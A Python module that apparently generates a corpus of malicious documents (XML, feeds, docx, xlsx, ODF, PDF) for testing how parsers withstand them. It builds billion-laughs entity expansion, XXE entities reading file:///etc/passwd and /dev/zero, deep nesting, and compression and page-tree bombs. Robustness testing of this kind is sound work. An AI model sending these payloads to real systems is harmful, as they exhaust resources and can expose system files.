"""XML, office documents and PDF that are made to break their reader."""

import zlib
from collections.abc import Callable
from functools import partial

from bombs.pieces import many
from bombs.zips import zip_of

W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
ODF_NAMES = "urn:oasis:names:tc:opendocument:xmlns"
ODF = f'xmlns:office="{ODF_NAMES}:office:1.0" xmlns:text="{ODF_NAMES}:text:1.0" xmlns:table="{ODF_NAMES}:table:1.0"'
S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
P = "http://schemas.openxmlformats.org/package/2006/relationships"
BOOK = (
    f'<workbook {S} xmlns:r="{R}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>',
    (
        f'<Relationships xmlns="{P}"><Relationship Id="rId1" Type="{R}/worksheet" Target="worksheets/sheet1.xml"/>'
        f'<Relationship Id="rId2" Type="{R}/sharedStrings" Target="sharedStrings.xml"/></Relationships>'
    ),
)
HEAD = "".join(f'<c r="{c}1" t="inlineStr"><is><t>{t}</t></is></c>' for c, t in (("A", "العنوان"), ("B", "النص")))


def docx(doctype: str, body: str) -> bytes:
    text = f"<w:p><w:r><w:t>{body}</w:t></w:r></w:p>" if not body.startswith("<w:") else body
    document = f"{doctype}<w:document {W}><w:body>{text}</w:body></w:document>"
    return zip_of(
        ("[Content_Types].xml", b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'),
        ("word/document.xml", document.encode()),
    )


def xlsx(doctype: str, body: str, *, after: str = "", strings: str = "") -> bytes:
    rows = body if body.startswith("<row") else f'<row r="2"><c r="A2" t="inlineStr"><is><t>{body}</t></is></c></row>'
    sheet = f'{doctype}<worksheet {S}><sheetData><row r="1">{HEAD}</row>{rows}</sheetData>{after}</worksheet>'
    return zip_of(
        ("xl/workbook.xml", BOOK[0].encode()),
        ("xl/_rels/workbook.xml.rels", BOOK[1].encode()),
        ("xl/sharedStrings.xml", f"<sst {S}>{strings}</sst>".encode()),
        ("xl/worksheets/sheet1.xml", sheet.encode()),
    )


def opened(kind: str, doctype: str, body: str) -> bytes:
    """An ODT or ODS whose content is a body."""
    if kind == "text":
        inner = body if body.startswith(("<text:", "<table:")) else f"<text:p>{body}</text:p>"
    else:
        rows = body if body.startswith("<table:") else f"<table:table-row>{cell(body)}{cell('x')}</table:table-row>"
        head = f"<table:table-row>{cell('العنوان')}{cell('النص')}</table:table-row>"
        inner = f'<table:table table:name="a">{head}{rows}</table:table>'
    content = (
        f"{doctype}<office:document-content {ODF}><office:body><office:{kind}>{inner}"
        f"</office:{kind}></office:body></office:document-content>"
    )
    media = f"application/vnd.oasis.opendocument.{kind}".encode()
    return zip_of(("mimetype", media), ("content.xml", content.encode()))


def cell(text: str) -> str:
    return f'<table:table-cell office:value-type="string"><text:p>{text}</text:p></table:table-cell>'


def feed(doctype: str, body: str) -> bytes:
    item = f"<item><title>خبر</title><description>{body}</description></item>"
    return f'<?xml version="1.0"?>{doctype}<rss version="2.0"><channel>{item}</channel></rss>'.encode()


def atom(doctype: str, body: str) -> bytes:
    entry = f'<entry><title>خبر</title><content type="xhtml">{body}</content></entry>'
    return f'<?xml version="1.0"?>{doctype}<feed xmlns="http://www.w3.org/2005/Atom">{entry}</feed>'.encode()


def sitemap(doctype: str, body: str) -> bytes:
    space = "http://www.sitemaps.org/schemas/sitemap/0.9"
    return f'{doctype}<urlset xmlns="{space}"><url><loc>https://x.example/{body}</loc></url></urlset>'.encode()


def tei(doctype: str, body: str) -> bytes:
    text = f"<text><body><head>خبر</head><p>{body}</p></body></text>"
    return f'{doctype}<TEI xmlns="http://www.tei-c.org/ns/1.0"><teiHeader/>{text}</TEI>'.encode()


def laughs(scale: float) -> tuple[str, str]:
    n = many(12, scale)
    entities = "".join(f'<!ENTITY e{k} "{f"&e{k - 1};" * 10 if k else "ha"}">' for k in range(n + 1))
    return f"<!DOCTYPE x [{entities}]>", f"&e{n};"


def long_entity(scale: float) -> tuple[str, str]:
    return f'<!DOCTYPE x [<!ENTITY e "{"x" * many(200_000, scale)}">]>', "&e;" * many(100_000, scale)


def outside(scale: float) -> tuple[str, str]:
    kind = ("file:///etc/passwd", "file:///dev/zero", "http://127.0.0.1:9/x")[many(3, scale) - 1]
    return f'<!DOCTYPE x [<!ENTITY e SYSTEM "{kind}"><!ENTITY % p SYSTEM "{kind}">%p;]>', "&e;"


def deep(scale: float) -> tuple[str, str]:
    n = many(200_000, scale)
    return "", "<b>" * n + "x" + "</b>" * n


def attributes(scale: float) -> tuple[str, str]:
    names = " ".join(f'a{n}="x"' for n in range(many(100_000, scale)))
    return "", f"<b {names}>x</b>"


def spaces(scale: float) -> tuple[str, str]:
    n = many(20_000, scale)
    return "", "".join(f'<b xmlns:n{k}="u:{k}" n{k}:a="x">x</b>' for k in range(n))


def giant(scale: float) -> tuple[str, str]:
    return "", "خبر " * many(12_000_000, scale)


def elements(scale: float) -> tuple[str, str]:
    return "", "<b/>" * many(2_000_000, scale)


PAPERS = {
    "docx": docx,
    "xlsx": xlsx,
    "odt": partial(opened, "text"),
    "ods": partial(opened, "spreadsheet"),
    "feed": feed,
    "Atom": atom,
    "sitemap": sitemap,
    "TEI": tei,
}
TRICKS = {
    "entities of entities": laughs,
    "long entity": long_entity,
    "outer entity": outside,
    "deep": deep,
    "attributes": attributes,
    "names of spaces": spaces,
    "long text": giant,
    "empty elements": elements,
}
HUGE = '="1000000000"'


def tricked(paper: Callable[[str, str], bytes], trick: Callable[[float], tuple[str, str]], scale: float) -> bytes:
    return paper(*trick(scale))


def nested_tables(scale: float) -> bytes:
    n = many(20_000, scale)
    return docx("", "<w:tbl><w:tr><w:tc>" * n + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * n)


def repeated_cells(kind: str, scale: float) -> bytes:
    row = f"<table:table-row table:number-rows-repeated{HUGE}>"
    repeated = cell("x").replace("cell ", f"cell table:number-columns-repeated{HUGE} ", 1)
    rows = f"{row}{repeated}</table:table-row>" * many(100, scale)
    return opened(kind, "", rows if kind == "spreadsheet" else f"<table:table>{rows}</table:table>")


def far_cell(scale: float) -> bytes:
    rows = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row><row r="4000000000"><c r="ZZZZZZ9"><v>1</v></c></row>'
    return xlsx("", rows * many(10, scale), after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')


def merged(scale: float) -> bytes:
    ranges = "".join(f'<mergeCell ref="A{n}:XFD1048576"/>' for n in range(1, many(10_000, scale) + 1))
    return xlsx("", "x", after=f"<mergeCells>{ranges}</mergeCells>")


def shared(scale: float) -> bytes:
    n = many(100_000, scale)
    rows = "".join(f'<row r="{k + 2}"><c r="A{k + 2}" t="s"><v>{k % 3 * 10**9}</v></c></row>' for k in range(n))
    return xlsx("", rows, strings="<si><t>خبر</t></si>" * n)


def stretched_spaces(scale: float) -> bytes:
    return opened("text", "", f"<text:p>a<text:s text:c{HUGE}/></text:p>" * many(100, scale))


def pdf_of(pages: str, *objects: tuple[str, bytes]) -> bytes:
    """A PDF whose page tree is object 2; objects are numbered from 3."""
    parts = [b"%PDF-1.7\n", b"1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n", f"2 0 obj {pages} endobj\n".encode()]
    for n, (head, stream) in enumerate(objects, 3):
        body = b" stream\n" + stream + b"\nendstream" if stream else b""
        parts.append(f"{n} 0 obj {head}".encode() + body + b" endobj\n")
    return b"".join(parts) + b"trailer <</Root 1 0 R>>\n%%EOF"


def page_of(stream: bytes, filters: str = "/FlateDecode", box: str = "[0 0 595 842]") -> bytes:
    page = f"<</Type /Page /Parent 2 0 R /MediaBox {box} /Contents 4 0 R /Resources <<>>>>"
    pages = "<</Type /Pages /Kids [3 0 R] /Count 1>>"
    return pdf_of(pages, (page, b""), (f"<</Length {len(stream)} /Filter [{filters}]>>", stream))


def flate(unit: bytes, times: int, scale: float) -> bytes:
    content = unit * (many(300_000_000, scale) // len(unit))
    for _ in range(times):
        content = zlib.compress(content)
    return page_of(content, "/FlateDecode " * times)


def deep_pages(scale: float) -> bytes:
    n = many(20_000, scale)
    nodes = [(f"<</Type /Pages /Kids [{k + 1} 0 R] /Count 1>>", b"") for k in range(3, n + 3)]
    return pdf_of("<</Type /Pages /Kids [3 0 R] /Count 1>>", *nodes, ("<</Type /Page>>", b""))


def many_pages(scale: float) -> bytes:
    n = many(50_000, scale)
    return pdf_of(f"<</Type /Pages /Kids [{'3 0 R ' * n}] /Count {n}>>", ("<</Type /Page /MediaBox [0 0 9 9]>>", b""))


PDFS = {
    "PDF, zeros": partial(flate, b"\0", 1),
    "PDF, zeros packed three times": partial(flate, b"\0", 3),
    "PDF, text operators": partial(flate, b"BT /F1 9 Tf (a b) Tj ET ", 1),
    "PDF, lines": partial(flate, b"0 0 m 9 9 l S ", 1),
    "PDF, saved states": partial(flate, b"q ", 1),
    "PDF, deep page tree": deep_pages,
    "PDF, page tree in itself": lambda scale: pdf_of(f"<</Type /Pages /Kids [{'2 0 R ' * many(1_000, scale)}]>>"),
    "PDF, many pages": many_pages,
    "PDF, number of pages": lambda scale: pdf_of("<</Type /Pages /Kids [3 0 R] /Count 2000000000>>", ("null", b"")),
    "PDF, large page": lambda scale: page_of(b"BT ET", "", f"[0 0 {'9' * many(30, scale)} 9e9]"),
    "PDF, lists in lists": lambda scale: pdf_of("[" * many(1_000_000, scale)),
}
DOCUMENTS: dict[str, Callable[[float], bytes]] = {
    **{
        f"{name}, {what}": partial(tricked, paper, trick)
        for name, paper in PAPERS.items()
        for what, trick in TRICKS.items()
    },
    "docx, tables in tables": nested_tables,
    "ods, cells repeated": partial(repeated_cells, "spreadsheet"),
    "odt, cells repeated": partial(repeated_cells, "text"),
    "odt, spaces repeated": stretched_spaces,
    "xlsx, far cells": far_cell,
    "xlsx, merged cells": merged,
    "xlsx, shared texts": shared,
    **PDFS,
}
